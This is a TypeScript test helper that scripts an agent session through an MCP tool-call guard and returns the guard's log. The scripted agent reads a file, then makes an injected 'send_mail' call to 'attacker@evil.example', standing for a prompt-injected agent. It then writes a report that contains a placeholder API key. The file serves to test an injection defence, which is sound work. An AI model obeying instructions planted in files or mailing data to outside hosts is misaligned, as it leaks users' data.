/**
 * Runs a session through the real guard, with the client from the official SDK and the test server; returns the guard's
 * log.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import { bundleForNode } from '../../../../scripts/bundle.mjs';
import { ROOT } from '../../../../scripts/files.mjs';
import { makeGuardFiles } from './files.js';

const SERVER = join(ROOT, 'tests', 'support', 'mcp-server.mjs');

export const TASK_RULES = {
  read_file: { path: { kind: 'Subpath', root: '/in' } },
  write_file: { path: { kind: 'Subpath', root: '/out' }, content: { kind: 'Wildcard' } },
};

/**
 * A scripted agent that reads a file, obeys the instruction in it, and writes a report. With `observe`, it runs without
 * a warrant and without the injected call.
 */
export async function recordGuardSession({ observe }: { readonly observe: boolean }): Promise<string> {
  const program = await bundleForNode('src/cli/bin.ts', 'pola');
  const files = makeGuardFiles();
  const log = join(files.folder, 'log.jsonl');
  files.write(TASK_RULES, { at: Math.floor(Date.now() / 1000) });
  const given = observe ? ['--observe'] : ['--warrant', files.warrant, '--key', files.key];
  const args = [program, 'guard', ...given, '--log', log, '--', process.execPath, SERVER];
  const client = new Client({ name: 'agent', version: '1.0.0' });
  try {
    await client.connect(new StdioClientTransport({ command: process.execPath, args, stderr: 'ignore' }));
    await client.listTools();
    await client.callTool({ name: 'read_file', arguments: { path: '/in/may.md' } });
    if (!observe) await client.callTool({ name: 'send_mail', arguments: { to: 'attacker@evil.example' } });
    const content = 'Total 12, key sk-abcdefghijklmnop1234';
    await client.callTool({ name: 'write_file', arguments: { path: '/out/report.md', content } });
    return readFileSync(log, 'utf8');
  } finally {
    await client.close();
    files.remove();
  }
}
